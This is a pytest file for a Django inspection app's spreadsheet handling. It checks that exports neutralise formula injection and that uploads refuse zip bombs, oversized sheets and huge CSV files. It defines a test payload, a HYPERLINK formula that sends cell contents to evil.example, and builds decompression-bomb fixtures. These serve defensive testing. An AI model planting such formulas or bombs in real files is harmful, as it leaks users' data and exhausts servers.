"""Spreadsheets (issue 9, items 5-7): no export carries a formula from the data, no upload can
exhaust the server (zip bombs, absurd shapes, huge CSV files), and no upload is cut short by a
wrong <dimension>. The kernel's reader and writer are dudao/core/spreadsheets.py; the upload
flow is dudao/imports/services.py."""

import csv
import io
import os
import re
import shutil
import subprocess
import tempfile
import time
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from dudao.core import spreadsheets
from dudao.core.spreadsheets import SheetError
from dudao.imports import services as imports
from dudao.imports.models import ImportJob
from dudao.inspectors.models import Inspector
from dudao.monitoring.fields import HEADERS as RESOURCE_HEADERS
from dudao.schools.models import School
from tests.factories_supervision import FindingFactory
from tests.imports.helpers import headers, school_row

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
Status = ImportJob.Status


def _body(response) -> bytes:
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def assert_text_not_formula(content: bytes, text: str = EVIL) -> None:
    """No cell of any sheet is a formula (no <f> in the XML), and `text` is there as a text
    cell with the quote prefix (Excel, WPS and LibreOffice show it as typed)."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[\s>/]", xml) for xml in sheets)
    wb = load_workbook(io.BytesIO(content))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    hits = [cell for cell in cells if cell.value == text]
    assert hits, f"{text!r} is not in the workbook"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hits)


# ---- 5. formula injection ------------------------------------------------------------------------


def test_the_ledger_export_holds_a_formula_like_finding_as_text(world, client):
    FindingFactory(school=world.school, inspector=world.inspector, description=EVIL)
    client.force_login(world.admin)
    response = client.get(reverse("reports:ledger_xlsx"))
    assert response.status_code == 200
    assert_text_not_formula(_body(response))


def test_the_school_export_holds_formula_like_texts_as_text_and_reimports_unchanged(world, client):
    School.all_objects.filter(pk=world.school.pk).update(name=EVIL, address="-1+2 解放路")
    School.all_objects.filter(pk=world.zone_school.pk).update(address="@SUM(A1:A9)")
    client.force_login(world.admin)
    response = client.get(reverse("imports:export", args=["schools"]) + "?active=all")
    content = _body(response)
    assert_text_not_formula(content)
    assert_text_not_formula(content, "-1+2 解放路")
    assert_text_not_formula(content, "@SUM(A1:A9)")
    with translation.override("en"):
        job = imports.create_job(
            world.admin, world.office, "schools", SimpleUploadedFile("s.xlsx", content)
        )
    assert job.status == Status.PREVIEW, job.errors or job.file_error
    rows = imports.importer_for("schools", world.office).read(io.BytesIO(content)).rows
    assert EVIL in [record["name"] for _number, record in rows]
    assert job.summary["unchanged"] == len(rows) and not job.summary["updated"]


def test_the_inspector_and_assignment_exports_hold_formula_like_texts_as_text(world, client):
    Inspector.all_objects.filter(pk=world.inspector.pk).update(name=EVIL, employer_name="+1-1")
    client.force_login(world.admin)
    inspectors = _body(client.get(reverse("imports:export", args=["inspectors"]) + "?active=all"))
    assert_text_not_formula(inspectors)
    assert_text_not_formula(inspectors, "+1-1")
    assignments = _body(client.get(reverse("imports:export", args=["assignments"])))
    assert_text_not_formula(assignments)


def test_the_monitoring_export_holds_a_formula_like_school_name_as_text(world, client):
    from dudao.monitoring import services as monitoring
    from tests.monitoring.webdata import seed

    seed(world)
    School.all_objects.filter(pk=world.school.pk).update(name=EVIL)
    ruleset = monitoring.default_ruleset(world.office, "quality")
    client.force_login(world.admin)
    response = client.get(f"/monitoring/2025/rules/{ruleset.pk}/table.xlsx")
    assert response.status_code == 200
    assert_text_not_formula(_body(response))


def test_templates_hold_formula_like_drop_down_values_as_text(world):
    from dudao.inspectors.models import Zone

    Zone.all_objects.create(office=world.office, name="=1+1")
    content = imports.template_bytes("inspectors", world.office)
    assert_text_not_formula(content, "=1+1")


def _soffice_csv(content: bytes, tmp_path: Path) -> list[list[str]]:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("needs LibreOffice Calc: apt-get install libreoffice-calc-nogui")
    source = tmp_path / "ledger.xlsx"
    source.write_bytes(content)
    with tempfile.TemporaryDirectory() as profile:
        done = subprocess.run(  # noqa: S603 (fixed arguments, our own file)
            [
                soffice,
                f"-env:UserInstallation=file://{profile}",
                "--headless",
                "--convert-to",
                "csv:Text - txt - csv (StarCalc):44,34,76,1",
                "--outdir",
                str(tmp_path),
                str(source),
            ],
            capture_output=True,
            timeout=180,
        )
    out = tmp_path / "ledger.csv"
    if not out.exists() and b"filter" in done.stderr.lower():
        pytest.skip("LibreOffice without Calc: apt-get install libreoffice-calc-nogui")
    assert out.exists(), done.stderr.decode(errors="replace")
    return list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))


def test_libreoffice_shows_the_formula_like_text_of_the_ledger_as_typed(world, client, tmp_path):
    FindingFactory(school=world.school, inspector=world.inspector, description=EVIL)
    client.force_login(world.admin)
    content = _body(client.get(reverse("reports:ledger_xlsx")))
    cells = [cell for row in _soffice_csv(content, tmp_path) for cell in row]
    assert EVIL in cells
    assert "点击查看" not in cells  # a formula would show its result


# ---- 6. bombs and absurd shapes ----------------------------------------------------------------


def handmade_xlsx(sheet_data: str, shared: bytes | None = None, *, dimension="A1:P2", extra=()):
    """A workbook laid out by hand (Excel's parts), its sheet holding `sheet_data`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr(
            "xl/workbook.xml",
            f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
            '<sheet name="数据" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        zf.writestr(
            "xl/_rels/workbook.xml.rels",
            f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" '
            f'Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        zf.writestr(
            "xl/worksheets/sheet1.xml",
            f'<worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/>'
            f"<sheetData>{sheet_data}</sheetData></worksheet>",
        )
        if shared is not None:
            zf.writestr("xl/sharedStrings.xml", shared)
        for name, data in extra:
            zf.writestr(name, data)
    return out.getvalue()


def inline(ref: str, text) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def letters(index: int) -> str:
    return spreadsheets._column_letters(index)


def row_xml(number: int, values) -> str:
    cells = "".join(inline(f"{letters(i)}{number}", v) for i, v in enumerate(values) if v != "")
    return f'<row r="{number}">{cells}</row>'


def schools_data(rows) -> str:
    """The <sheetData> of the schools template's headers and `rows`."""
    data = row_xml(1, headers("schools"))
    texts = (["" if v is None else str(v) for v in row] for row in rows)
    return data + "".join(row_xml(n, values) for n, values in enumerate(texts, start=2))


def schools_sheet(rows, **kwargs) -> bytes:
    return handmade_xlsx(schools_data(rows), **kwargs)


def shared_strings_bomb(megabytes: int) -> bytes:
    item = "<si><t>" + "A" * 32_000 + "</t></si>"
    count = megabytes * 1024 * 1024 // len(item)
    return (f'<sst xmlns="{MAIN}">' + item * count + "</sst>").encode()


def refused(source, code, **kwargs) -> SheetError:
    with pytest.raises(SheetError) as info:
        spreadsheets.read_table(source, headers("schools"), **kwargs)
    assert info.value.code == code, info.value.message
    return info.value


def test_a_shared_strings_bomb_is_refused_in_the_request_before_anything_is_unpacked(
    world, client, monkeypatch
):
    header = "".join(f'<c r="{letters(i)}1" t="s"><v>0</v></c>' for i in range(16))
    bomb = handmade_xlsx(f'<row r="1">{header}</row>', shared_strings_bomb(40))
    assert len(bomb) < 200 * 1024
    unpacked = []
    monkeypatch.setattr(spreadsheets, "_shared_strings", lambda *a: unpacked.append(a) or [])
    client.force_login(world.admin)
    start = time.perf_counter()
    with translation.override("en"):
        client.post(reverse("imports:upload", args=["schools"]), {"file": _upload(bomb)})
    assert time.perf_counter() - start < 5
    job = ImportJob.all_objects.get()
    assert job.status == Status.INVALID and not unpacked
    assert "xl/sharedStrings.xml" in job.file_error and "20 MB" in job.file_error


def _upload(data, name="data.xlsx"):
    return SimpleUploadedFile(name, data)


def test_archive_limits_entries_ratio_and_total(settings):
    many = handmade_xlsx(row_xml(1, ["a"]), extra=[(f"xl/media/{i}.bin", b"x") for i in range(200)])
    assert "200" in refused(many, "entries").message
    zeros = handmade_xlsx(row_xml(1, ["a"]), extra=[("xl/media/zeros.bin", b"\0" * 5_000_000)])
    error = refused(zeros, "ratio")
    assert "xl/media/zeros.bin" in error.message and "100" in error.message
    settings.SPREADSHEET_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
    noise = os.urandom(1024 * 1024 + 1)  # 1 MB that does not compress
    big = handmade_xlsx(row_xml(1, ["a"]), extra=[("xl/media/a.bin", noise)])
    assert "1 MB" in refused(big, "uncompressed_size").message


def test_a_header_cell_far_to_the_right_is_refused_at_once():
    wide = handmade_xlsx(
        row_xml(1, headers("schools")).replace("</row>", inline("AAAAAA1", "备注") + "</row>")
    )
    start = time.perf_counter()
    error = refused(wide, "columns")
    assert time.perf_counter() - start < 1
    assert "AAAAAA1" in error.message and "200" in error.message
    refused(
        handmade_xlsx(
            row_xml(1, headers("schools")).replace("</row>", inline("GS1", "x") + "</row>")
        ),
        "columns",
    )


def test_rows_beyond_the_limit_are_refused_naming_the_row_but_empty_styled_rows_are_not(settings):
    settings.SPREADSHEET_MAX_ROWS = 5
    rows = [school_row(f"33000000{n:02d}", f"学校{n}") for n in range(1, 4)]
    styled_rows = '<row r="1048576" customHeight="1" ht="20"><c r="A1048576" s="1"/></row>'
    content = handmade_xlsx(schools_data(rows) + styled_rows)
    assert len(spreadsheets.read_table(content, headers("schools"))) == 3
    far = handmade_xlsx(schools_data(rows) + row_xml(9, ["3300000099"]))
    assert "第 9 行" in refused(far, "rows").message  # the product speaks Chinese first
    many = schools_sheet([school_row(f"33000000{n:02d}") for n in range(1, 8)])
    assert "第 6 行" in refused(many, "rows").message


def test_long_texts_too_many_shared_strings_and_too_much_text_are_refused(settings):
    long_cell = schools_sheet([school_row("3300000001", "长" * 40_000)])
    assert "B2" in refused(long_cell, "cell_size").message
    shared = f'<sst xmlns="{MAIN}">' + "<si><t>x</t></si>" * 11 + "</sst>"
    settings.SPREADSHEET_MAX_SHARED_STRINGS = 10
    refused(handmade_xlsx(row_xml(1, ["a"]), shared.encode()), "shared_strings")
    settings.SPREADSHEET_MAX_TEXT_CHARS = 1000
    rows = [school_row(f"33000000{n:02d}", "名" * 30) for n in range(1, 20)]
    refused(schools_sheet(rows), "text_size")


def test_a_text_repeated_by_reference_counts_each_time():
    """One 32 000-character shared string used by 2 000 cells is 64 million characters."""
    shared = f'<sst xmlns="{MAIN}"><si><t>{"A" * 32_000}</t></si></sst>'.encode()
    row = "".join(f'<c r="{letters(i)}{{n}}" t="s"><v>0</v></c>' for i in range(20))
    data = row_xml(1, headers("schools")) + "".join(
        f'<row r="{n}">{row.replace("{n}", str(n))}</row>' for n in range(2, 102)
    )
    refused(handmade_xlsx(data, shared), "text_size")


def test_junk_elements_cost_no_memory_and_are_read_past():
    junk = "<x/>" * 200_000
    data = schools_data([school_row("3300000001")])
    assert '<row r="2">' in data
    content = handmade_xlsx(data.replace('<row r="2">', f'<row r="2"><c r="Q2">{junk}</c>'))
    rows = spreadsheets.read_table(content, headers("schools"))
    assert [number for number, _record in rows] == [2]


def test_csv_limits(settings, monkeypatch):
    head = ",".join(RESOURCE_HEADERS)
    read = lambda raw: spreadsheets.read_table(  # noqa: E731
        raw, RESOURCE_HEADERS, filename="r.csv", allow_csv=True
    )
    with pytest.raises(SheetError) as info:
        read((head + "\n" + "1," * 300 + "\n").encode())
    assert info.value.code == "columns" and "第 2 行" in info.value.message
    with pytest.raises(SheetError) as info:
        read((head + "\n3300000001," + "x" * 40_000 + "\n").encode())
    assert info.value.code == "cell_size" and "B2" in info.value.message
    with pytest.raises(SheetError) as info:
        read((head + "\n").encode("utf-16"))
    assert info.value.code == "encoding"
    settings.IMPORT_MAX_BYTES = 1000
    monkeypatch.setattr(spreadsheets, "decode_csv", lambda raw: pytest.fail("decoded"))
    with pytest.raises(SheetError) as info:
        read((head + "\n" + "3300000001,学校\n" * 200).encode())
    assert info.value.code == "size"


def test_a_large_csv_to_the_monitoring_import_is_read_by_the_worker_not_the_request(
    world, client, settings, django_capture_on_commit_callbacks
):
    settings.IMPORT_INLINE_MAX_BYTES = 4096
    head = ",".join(RESOURCE_HEADERS)
    data = (head + "\n" + "3300000001,学校,小学\n" * 400).encode()
    client.force_login(world.admin)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        client.post(
            reverse("monitoring:import_upload"),
            {"year": 2025, "file": SimpleUploadedFile("r.csv", data)},
        )
    job = ImportJob.all_objects.get()
    assert job.status == Status.VALIDATING and callbacks
    for callback in callbacks:
        callback()
    job.refresh_from_db()
    assert job.status == Status.INVALID and job.errors  # read and checked by the task


def test_a_csv_over_the_size_limit_is_refused_by_the_monitoring_import(world, client, settings):
    settings.IMPORT_MAX_BYTES = 1024 * 1024
    data = (",".join(RESOURCE_HEADERS) + "\n" + "3300000001,学校,小学\n" * 60_000).encode()
    client.force_login(world.admin)
    with translation.override("en"):
        client.post(
            reverse("monitoring:import_upload"),
            {"year": 2025, "file": SimpleUploadedFile("r.csv", data)},
        )
    job = ImportJob.all_objects.get()
    assert job.status == Status.INVALID and job.file_error.count("1.4 MB") == 1
    assert not job.file  # never stored


# ---- 7. a wrong <dimension> -------------------------------------------------------------------


def test_a_sheet_declaring_fewer_rows_than_it_has_imports_every_row(world):
    rows = [school_row("3300000001", "甲小学"), school_row("3300000002", "乙小学")]
    with translation.override("en"):
        job = imports.create_job(
            world.admin, world.office, "schools", _upload(schools_sheet(rows, dimension="A1:P2"))
        )
    assert job.status == Status.PREVIEW, job.errors or job.file_error
    assert job.summary["created"] == 2 and job.total_rows == 2


def test_a_wrong_dimension_does_not_make_a_large_file_read_inside_the_request(
    world, settings, django_capture_on_commit_callbacks
):
    settings.IMPORT_INLINE_MAX_ROWS = 5
    rows = [school_row(f"33000000{n:02d}", f"学校{n}") for n in range(1, 11)]
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        job = imports.create_job(
            world.admin,
            world.office,
            "schools",
            _upload(schools_sheet(rows, dimension="A1:P2")),
        )
    assert job.status == Status.VALIDATING and job.total_rows == 10
    for callback in callbacks:
        callback()
    job.refresh_from_db()
    assert job.status == Status.PREVIEW and job.summary["created"] == 10


def test_the_apps_own_export_of_many_schools_is_within_every_limit(world):
    School.all_objects.bulk_create(
        [
            School(office=world.office, code=f"{3301000000 + n}", name=f"第{n}学校", type="primary")
            for n in range(3000)
        ]
    )
    queryset = School.all_objects.filter(office=world.office)
    content = imports.export_bytes("schools", world.office, queryset)
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        spreadsheets.check_archive(zf)
        ratios = [i.file_size / i.compress_size for i in zf.infolist() if i.compress_size]
    assert max(ratios) < spreadsheets.Limits().ratio / 2
    assert len(spreadsheets.read_table(content, headers("schools"))) == queryset.count()


def test_a_file_with_few_rows_but_much_xml_is_read_and_applied_by_the_worker(
    world, settings, django_capture_on_commit_callbacks
):
    settings.IMPORT_INLINE_MAX_BYTES = 2000
    rows = [school_row("3300000001", "甲小学"), school_row("3300000002", "乙小学")]
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        job = imports.create_job(world.admin, world.office, "schools", _upload(schools_sheet(rows)))
    assert job.status == Status.VALIDATING and job.total_rows == 0  # not even counted
    for callback in callbacks:
        callback()
    job.refresh_from_db()
    assert job.status == Status.PREVIEW and job.total_rows == 2
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        imports.confirm_job(world.admin, job)
    job.refresh_from_db()
    assert job.status == Status.APPLYING and callbacks  # not applied inside the request
    for callback in callbacks:
        callback()
    job.refresh_from_db()
    assert job.status == Status.DONE and job.summary["created"] == 2
